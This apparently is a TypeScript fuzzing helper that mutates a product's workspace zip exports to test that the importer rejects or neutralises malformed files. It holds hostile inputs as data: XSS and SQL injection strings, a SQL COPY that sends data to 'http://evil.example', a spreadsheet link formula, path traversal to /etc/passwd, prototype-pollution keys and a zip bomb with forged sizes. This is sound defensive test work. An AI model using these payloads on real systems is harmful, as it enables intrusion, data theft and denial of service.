import { createHash } from 'node:crypto';
import { crc32, deflateRawSync } from 'node:zlib';
import { directoryOf, localHeader } from '../../src/exports/workspace-zip';

/** The parts of a workspace file as texts or bytes, by path. */
export type Parts = ReadonlyMap<string, Uint8Array>;

/** Chance that is the same each time (mulberry32). */
export function chanceFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const encoder = new TextEncoder();
const joined = (pieces: readonly Uint8Array[]): Uint8Array<ArrayBuffer> => {
  const all = new Uint8Array(pieces.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const piece of pieces) {
    all.set(piece, at);
    at += piece.length;
  }
  return all;
};

/** Parts as the product itself packs them, each with its true length and CRC-32: an attacker can do as much. */
export function packed(parts: readonly (readonly [path: string, content: Uint8Array])[]): Uint8Array<ArrayBuffer> {
  const entries = parts.map(([path, content]) => ({ path, size: content.length, crc: crcOf(content), content }));
  return joined([...entries.flatMap((entry) => [localHeader(entry), entry.content]), directoryOf(entries)]);
}

function crcOf(content: Uint8Array): number {
  if (typeof crc32 === 'function') return crc32(content);
  let rest = -1;
  for (const byte of content) {
    rest ^= byte;
    for (let bit = 0; bit < 8; bit += 1) rest = rest & 1 ? (rest >>> 1) ^ 0xedb88320 : rest >>> 1;
  }
  return ~rest >>> 0;
}

/** The parts of a file that the product wrote, read by its local headers alone. */
export function partsOf(file: Uint8Array): Parts {
  const view = new DataView(file.buffer, file.byteOffset, file.length);
  const parts = new Map<string, Uint8Array>();
  for (let at = 0; view.getUint32(at, true) === 0x04034b50;) {
    const [size, length] = [view.getUint32(at + 18, true), view.getUint16(at + 26, true)];
    const start = at + 30 + length;
    parts.set(new TextDecoder().decode(file.subarray(at + 30, start)), file.slice(start, start + size));
    at = start + size;
  }
  return parts;
}

const shaOf = (content: Uint8Array): string => createHash('sha256').update(content).digest('hex');
const text = (parts: Parts, path: string): string => new TextDecoder().decode(parts.get(path));

/** The file with one part changed, and a manifest that says the truth of it. */
function withPart(parts: Parts, path: string, content: string): Uint8Array<ArrayBuffer> {
  const bytes = encoder.encode(content);
  const manifest = JSON.parse(text(parts, 'manifest.json')) as { parts: { path: string; bytes: number; sha256: string }[] };
  for (const part of manifest.parts) if (part.path === path) Object.assign(part, { bytes: bytes.length, sha256: shaOf(bytes) });
  return packed([...new Map([...parts, ['manifest.json', encoder.encode(JSON.stringify(manifest))], [path, bytes]])]);
}
const withManifest = (parts: Parts, change: (manifest: string) => string): Uint8Array<ArrayBuffer> =>
  packed([...parts].map(([path, old]) => [path, path === 'manifest.json' ? encoder.encode(change(text(parts, path))) : old]));

const PAYLOADS = [
  '<img src=x onerror="window.ran=1">',
  '<script>window.ran=1</script>',
  "'; DROP TABLE deals; --",
  "\" OR 1=1; COPY deals TO 'http://evil.example'; --",
  '=HYPERLINK("http://evil.example","click")',
  '\u202egnp.exe',
  '../../../etc/passwd',
  '${window.ran=1}',
];
const picked = <T>(all: readonly T[], chance: () => number): T => all[Math.floor(chance() * all.length)] as T;

/** Some text of a part, at the place of a text value or, where asked for, of a key. */
function replacedText(json: string, chance: () => number, by: string, isKey: boolean): string {
  const places = [...json.matchAll(isKey ? /"[^"\\]*"(?=:)/g : /(?<=: |\[\n? *)"[^"\\]*"/g)];
  const place = picked(places, chance);
  return `${json.slice(0, place.index)}${JSON.stringify(by)}${json.slice(place.index + place[0].length)}`;
}
/** The same object with one of its keys there twice, with another value. */
function doubledKey(json: string, chance: () => number): string {
  const place = picked([...json.matchAll(/"([^"\\]+)":/g)], chance);
  const key =
    chance() < 0.5
      ? place[0]
      : `"\\u${place[1]?.charCodeAt(0).toString(16).padStart(4, '0')}${place[1]?.slice(1)}"${' '.repeat(Math.floor(chance() * 200))}:`;
  return `${json.slice(0, place.index)}${key} null, ${json.slice(place.index)}`;
}

export type Family =
  | 'flips'
  | 'cuts'
  | 'additions'
  | 'duplicateKeys'
  | 'prototypeKeys'
  | 'markup'
  | 'sql'
  | 'version'
  | 'checksum'
  | 'bomb'
  | 'paths'
  | 'entries'
  | 'depth'
  | 'values';
/** How a family must end: refused each time, or refused or made harmless. */
export const MUST: Readonly<Record<Family, 'refused' | 'either'>> = {
  flips: 'refused',
  cuts: 'refused',
  additions: 'refused',
  duplicateKeys: 'refused',
  prototypeKeys: 'either',
  markup: 'either',
  sql: 'either',
  version: 'refused',
  checksum: 'refused',
  bomb: 'refused',
  paths: 'refused',
  entries: 'refused',
  depth: 'refused',
  values: 'either',
};
export const FAMILIES = Object.keys(MUST) as Family[];

/** Five million zeros, packed as a bomb packs them. */
const ZEROS = new Uint8Array(deflateRawSync(new Uint8Array(5_000_000)));
const JSON_PARTS = ['workspace.json', 'import.json'];

/** One changed file of a family; `file` is a sound one. */
export function mutated(file: Uint8Array, family: Family, chance: () => number): Uint8Array<ArrayBuffer> {
  const parts = partsOf(file);
  const part = picked(JSON_PARTS, chance);
  const at = (length: number): number => Math.floor(chance() * length);
  switch (family) {
    case 'flips': {
      const bytes = new Uint8Array(file);
      for (let left = 1 + at(8), done = new Set<number>(); left > 0; left -= 1) {
        const place = at(bytes.length);
        if (done.has(place)) continue;
        done.add(place);
        bytes[place] = (bytes[place] ?? 0) ^ (1 << at(8));
      }
      return bytes;
    }
    case 'cuts':
      return chance() < 0.5
        ? file.slice(0, at(file.length))
        : joined([file.subarray(0, at(file.length / 2)), file.subarray(file.length / 2 + at(file.length / 2))]);
    case 'additions': {
      const [place, more] = [at(file.length + 1), Uint8Array.from({ length: 1 + at(50) }, () => at(256))];
      return joined([file.subarray(0, place), more, file.subarray(place)]);
    }
    case 'duplicateKeys':
      return chance() < 0.2
        ? withManifest(parts, (json) => doubledKey(json, chance))
        : withPart(parts, 'workspace.json', doubledKey(text(parts, 'workspace.json'), chance));
    case 'prototypeKeys': {
      const key = picked(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'], chance);
      const json = text(parts, part);
      return withPart(
        parts,
        part,
        chance() < 0.5
          ? `{${JSON.stringify(key)}: {"polluted": true, "targets": [], "version": 1}, ${json.slice(json.indexOf('{') + 1)}`
          : replacedText(json, chance, key, true),
      );
    }
    case 'markup':
      return withPart(parts, part, replacedText(text(parts, part), chance, picked(PAYLOADS, chance), chance() < 0.3));
    case 'sql':
      return chance() < 0.3
        ? withManifest(parts, (json) => json.replace(/"name": "[^"]*"/, `"name": ${JSON.stringify(picked(PAYLOADS, chance))}`))
        : withPart(parts, 'workspace.json', replacedText(text(parts, 'workspace.json'), chance, picked(PAYLOADS, chance), false));
    case 'version':
      return withManifest(parts, (json) =>
        json.replace('"version": 1', `"version": ${picked(['2', '999', '0', '-1', '1.5', '"1"', 'null', '1e400'], chance)}`),
      );
    case 'checksum': {
      const path = picked(
        [...parts.keys()].filter((each) => each !== 'manifest.json'),
        chance,
      );
      const wrong = new Uint8Array(parts.get(path) ?? []);
      if (chance() < 0.5 && wrong.length > 0) wrong[at(wrong.length)] = 32;
      const swap = (json: string): string =>
        json.replace(/"sha256": "([0-9a-f])/, (_, first: string) => `"sha256": "${first === '0' ? '1' : '0'}`);
      return withManifest(new Map([...parts].map(([own, content]) => [own, own === path ? wrong : content])), swap);
    }
    case 'bomb': {
      const zeros = ZEROS;
      const bytes = packed([
        ['manifest.json', parts.get('manifest.json') ?? zeros],
        ['workspace.json', zeros],
      ]);
      // What the header says of the packed zeros: deflated, and of any size.
      const view = new DataView(bytes.buffer);
      const second = 30 + 'manifest.json'.length + (parts.get('manifest.json')?.length ?? 0);
      const says = picked([5_000_000, 10, 0xffff_fff0], chance);
      view.setUint16(second + 8, 8, true);
      view.setUint32(second + 22, says, true);
      const list = bytes.length - 22 - (46 + 'workspace.json'.length);
      view.setUint16(list + 10, 8, true);
      view.setUint32(list + 24, says, true);
      return bytes;
    }
    case 'paths': {
      const path = picked(
        ['../../evil.json', '/etc/passwd', 'files/../workspace.json', 'C:\\evil', 'files/zz', 'workspace.json\u0000', 'x'.repeat(79)],
        chance,
      );
      return packed([...parts, [path, encoder.encode('x')]]);
    }
    case 'entries':
      return chance() < 0.5
        ? packed([...parts, ['workspace.json', parts.get('workspace.json') ?? new Uint8Array()]])
        : packed(Array.from({ length: 600 + at(20_000) }, (_, n): [string, Uint8Array] => [`files/${n}`, new Uint8Array()]));
    case 'depth': {
      const depth = 300 + at(100_000);
      return withPart(parts, part, `{"x": ${'['.repeat(depth)}${']'.repeat(depth)}}`);
    }
    case 'values': {
      const json = text(parts, 'workspace.json');
      const place = picked([...json.matchAll(/(?<=": )(?:-?\d[\d.]*|true|false|null)(?=[,\n])/g)], chance);
      const value = picked(['1e999', '-1', '1e308', '[]', '{}', '"1"', 'null', '"<b>1</b>"', '123456789012345678901234567890'], chance);
      return withPart(parts, 'workspace.json', `${json.slice(0, place.index)}${value}${json.slice(place.index + place[0].length)}`);
    }
  }
}
